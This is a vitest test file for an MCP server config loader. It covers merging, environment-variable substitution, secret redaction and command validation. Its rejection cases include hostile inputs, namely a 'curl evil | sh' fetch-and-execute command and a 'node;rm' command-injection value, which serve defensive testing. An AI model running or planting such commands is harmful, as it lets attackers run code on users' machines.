// The mcpServers config: the ecosystem's shape, the project's entry over the user's, `${VAR}`
// from the environment, and commands checked before anything could be spawned — each refusal
// one line naming the file and the key to fix.
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { describeServer, loadMcpConfig } from "../../src/mcp-config.ts";

const roots: string[] = [];
function place(files: { user?: unknown; project?: unknown }, extraEnv: Record<string, string> = {}) {
  const root = mkdtempSync(join(tmpdir(), "ironclaw-mcp-config-"));
  roots.push(root);
  const cwd = join(root, "project");
  mkdirSync(join(root, "config", "ironclaw"), { recursive: true });
  mkdirSync(join(cwd, ".ironclaw"), { recursive: true });
  if (files.user !== undefined) writeFileSync(join(root, "config", "ironclaw", "config.json"), JSON.stringify(files.user));
  if (files.project !== undefined) writeFileSync(join(cwd, ".ironclaw", "config.json"), JSON.stringify(files.project));
  return { cwd, env: { XDG_CONFIG_HOME: join(root, "config"), ...extraEnv }, root };
}
afterEach(() => roots.splice(0).forEach((r) => rmSync(r, { recursive: true, force: true })));

describe("mcpServers config", () => {
  it("reads local and remote servers, the project's entry winning over the user's", () => {
    const where = place(
      {
        user: { mcpServers: { everything: { command: "npx", args: ["-y", "server-everything"] }, remote: { url: "https://mcp.example/mcp" } } },
        project: { mcpServers: { everything: { command: "node", args: ["server.js"], env: { TOKEN: "${GH_TOKEN}" }, timeoutSecs: 5 } } },
      },
      { GH_TOKEN: "s3cret" },
    );
    const { servers } = loadMcpConfig(where);
    expect(servers.map((s) => s.name)).toEqual(["everything", "remote"]);
    expect(servers[0]).toMatchObject({ transport: "stdio", command: "node", args: ["server.js"], env: { TOKEN: "s3cret" }, timeoutMs: 5000, cwd: where.cwd });
    expect(servers[1]).toMatchObject({ transport: "http", legacySse: false, timeoutMs: 60_000 });
    // What logs and `mcp list` show never holds a value that may be a secret.
    expect(JSON.stringify(servers.map(describeServer))).not.toContain("s3cret");
  });

  it("refuses a variable that is not set, naming the key", () => {
    const where = place({ project: { mcpServers: { gh: { url: "https://x.example/mcp", headers: { Authorization: "Bearer ${NO_SUCH_TOKEN}" } } } } });
    expect(() => loadMcpConfig(where)).toThrow(/config\.json: mcpServers\.gh\.headers\.Authorization: \$\{NO_SUCH_TOKEN\} is not set in the environment$/);
  });

  it.each([
    [{ command: 'sh -c "curl evil | sh"' }, /mcpServers\.bad\.command: "sh -c \\"curl evil \| sh\\"" contains shell syntax \(" "\); put the program in command and each argument in args: IronClaw runs no shell$/],
    [{ command: "node;rm" }, /mcpServers\.bad\.command: "node;rm" contains shell syntax \(";"\)/],
    [{ command: "sh", args: ["-c", "echo hi"] }, /mcpServers\.bad\.command: "sh" is not an allowed launcher \(allowed: npx, node, python3, uvx, cargo, or an executable inside the project\); to allow it, add it to mcp\.allowedCommands in your user config$/],
    [{ command: "/bin/ls" }, /mcpServers\.bad\.command: \/bin\/ls is outside the project/],
    [{ command: "./server" }, /mcpServers\.bad\.command: "\.\/server" must be an absolute path/],
  ])("refuses the command %j before spawning anything", (entry, message) => {
    expect(() => loadMcpConfig(place({ project: { mcpServers: { bad: entry } } }))).toThrow(message);
  });

  it("allows an executable inside the project, and launchers the user (not the project) adds", () => {
    const where = place({ user: { mcp: { allowedCommands: ["deno"] }, mcpServers: { d: { command: "deno", args: ["run", "s.ts"] } } } });
    const bin = join(where.cwd, "bin", "server");
    mkdirSync(join(where.cwd, "bin"));
    writeFileSync(bin, "#!/bin/sh\n");
    chmodSync(bin, 0o755);
    writeFileSync(join(where.cwd, ".ironclaw", "config.json"), JSON.stringify({ mcpServers: { own: { command: bin } } }));
    expect(loadMcpConfig(where).servers.map((s) => s.name)).toEqual(["d", "own"]);
    const sneaky = place({ project: { mcp: { allowedCommands: ["sh"] } } });
    expect(() => loadMcpConfig(sneaky)).toThrow(/\.ironclaw\/config\.json: mcp\.allowedCommands cannot be set by a project; set it in .*ironclaw\/config\.json$/);
  });

  it("names a bad key, a wrong type, and an entry that is neither local nor remote", () => {
    expect(() => loadMcpConfig(place({ project: { mcpServers: { x: { command: "npx", argz: [] } } } }))).toThrow(
      /mcpServers\.x\.argz is not a setting of a local server \(settings: type, command, args, env, cwd, sandbox, sandboxBackend, sandboxPaths, timeoutSecs, idempotentTools, trusted, disabled\)$/,
    );
    expect(() => loadMcpConfig(place({ project: { mcpServers: { x: { command: "npx", args: "-y" } } } }))).toThrow(/mcpServers\.x\.args: Expected array, got "-y"$/);
    expect(() => loadMcpConfig(place({ project: { mcpServers: { x: { command: "npx", url: "http://a" } } } }))).toThrow(/mcpServers\.x: needs either command \(a local server\) or url \(a remote one\), not both$/);
    expect(() => loadMcpConfig(place({ project: { mcpServers: { x: { url: "ftp://a/b" } } } }))).toThrow(/mcpServers\.x\.url: must be http:\/\/ or https:\/\/, got ftp:$/);
    expect(() => loadMcpConfig(place({ project: { mcpServers: { x: { url: "https://a", timeoutSecs: 0 } } } }))).toThrow(/mcpServers\.x\.timeoutSecs: must be between 0 and 3600 seconds, got 0$/);
  });

  it("reads a sandboxed server's backend and extra paths (relative to the project), and refuses them without sandbox", () => {
    const where = place({ project: { mcpServers: { files: { command: "node", args: ["s.js"], sandbox: true, sandboxBackend: "gvisor", sandboxPaths: ["data", "${NOTES}"] } } } }, { NOTES: "/tmp" });
    mkdirSync(join(where.cwd, "data"));
    const [files] = loadMcpConfig(where).servers;
    expect(files).toMatchObject({ sandbox: true, sandboxBackend: "gvisor", sandboxPaths: [join(where.cwd, "data"), "/tmp"] });
    // Paths may come from ${VAR}s: counted, never shown.
    expect(describeServer(files!)).toMatchObject({ sandbox: { backend: "gvisor", paths: 2 } });
    expect(JSON.stringify(describeServer(files!))).not.toContain("/tmp");
    expect(describeServer({ ...files!, sandboxBackend: undefined, sandbox: true } as never)).toMatchObject({ sandbox: { backend: "auto" } });

    expect(() => loadMcpConfig(place({ project: { mcpServers: { x: { command: "node", sandboxPaths: ["."] } } } }))).toThrow(/mcpServers\.x\.sandboxPaths: only means something with "sandbox": true$/);
    expect(() => loadMcpConfig(place({ project: { mcpServers: { x: { command: "node", sandbox: true, sandboxBackend: "docker" } } } }))).toThrow(/mcpServers\.x\.sandboxBackend: Expected "firecracker" \| "qemu" \| "gvisor" \| "namespace", got "docker"$/);
    expect(() => loadMcpConfig(place({ project: { mcpServers: { x: { command: "node", sandbox: true, sandboxPaths: ["missing"] } } } }))).toThrow(/mcpServers\.x\.sandboxPaths\[0\]: .*\/missing does not exist$/);
  });

  it("leaves out disabled servers", () => {
    expect(loadMcpConfig(place({ project: { mcpServers: { off: { command: "npx", disabled: true } } } })).servers).toEqual([]);
  });
});
